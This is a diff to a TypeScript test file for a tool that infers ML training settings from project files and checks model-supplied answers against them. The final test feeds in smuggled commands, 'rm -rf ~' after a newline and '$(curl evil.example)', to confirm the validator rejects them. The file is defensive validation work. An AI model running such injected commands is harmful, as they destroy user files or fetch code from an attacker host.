@@ -1,12 +1,12 @@
 import { strict as assert } from 'node:assert';
-import { detectEnvironment } from '../../../src/core/environment/detect/index.ts';
+import { type Answers, detectEnvironment } from '../../../src/core/environment/detect/index.ts';
 import type { Detected } from '../../../src/core/environment/index.ts';
 import { KnownFormats } from '../../../src/core/metrics/index.ts';
 
+const reads = (line: string) => new KnownFormats().parse(line).map(({ name }) => name);
+
 function propose(files: Readonly<Record<string, string>>): Detected {
-  return detectEnvironment(new Map(Object.entries(files)), {
-    reads: (line) => new KnownFormats().parse(line).map(({ name }) => name),
-  });
+  return detectEnvironment(new Map(Object.entries(files)), { reads });
 }
 
 const LOOP = 'import torch\nfor epoch in range(3):\n    loss.backward()\n';
@@ -192,5 +192,54 @@ describe('hyperparameters', () => {
       hyperparameters.map(({ name, literal, path }) => `${path} ${name}=${literal}`),
       ['train.sh lr=1e-4', 'lab/main.py warmup=100'],
     );
+  });
+});
+
+describe('what a model says to what stays open', () => {
+  const files = {
+    'README.md': '# t\n`bash go.sh`\n',
+    'go.sh': 'python train.py --lr 0.1\n',
+    'train.py':
+      'import argparse\np = argparse.ArgumentParser()\np.add_argument("--random-state", type=int)\nloss.backward()\n' +
+      'print(f"val_loss={a:.3f} val_mae={b:.3f} val_f1={c:.3f}")\n',
+  };
+  const told = (answers: Partial<Answers>) =>
+    detectEnvironment(new Map(Object.entries(files)), { reads, answers: { from: 'the model m', ...answers } });
+
+  it('chooses among what is printed, and nothing that is not', () => {
+    const chosen = told({ metric: 'val_f1', goal: 'maximize' });
+    assert.deepEqual(chosen.environment.objective, { metric: 'val_f1', goal: 'maximize', summary: 'last' });
+    assert.equal(chosen.reasons.objective, 'the model m says so; train.py:5 prints it');
+    const refused = told({ metric: 'val_bleu' });
+    assert.equal(refused.environment.objective, undefined);
+    assert.match(refused.questions.objective ?? '', /the model m said "val_bleu", which nothing prints or logs/);
+  });
+
+  it('changes nothing that the files say', () => {
+    assert.equal(told({ run: 'python train.py' }).environment.run, 'bash go.sh');
+  });
+
+  it('gives no seed that the program does not have, or that the command does not hand on', () => {
+    assert.match(told({ seed: { flag: '--seed' } }).questions.seed ?? '', /which the program does not have/);
+    assert.match(told({ seed: { flag: '--random-state' } }).questions.seed ?? '', /go\.sh does not hand it on/);
+  });
+
+  it('gives a duration, or none', () => {
+    assert.equal(told({ timeout: '45m' }).environment.resources?.timeout, '45m');
+    assert.match(told({ timeout: 'for ever' }).questions['resources.timeout'] ?? '', /no duration to wait for/);
+  });
+
+  it('gives one plain command, which starts something that is here', () => {
+    const bare = new Map([
+      ['a.py', 'loss.backward()\n'],
+      ['b.py', 'loss.backward()\n'],
+    ]);
+    const run = (command: string) =>
+      detectEnvironment(bare, { reads, answers: { from: 'the model m', run: command } }).questions.run ?? '';
+    assert.equal(run('python b.py'), '');
+    assert.match(run('python c.py'), /there is no c\.py/);
+    assert.match(run('echo done'), /names no file here/);
+    assert.match(run('python b.py\nrm -rf ~'), /no plain command/);
+    assert.match(run('python b.py $(curl evil.example)'), /no plain command/);
   });
 });
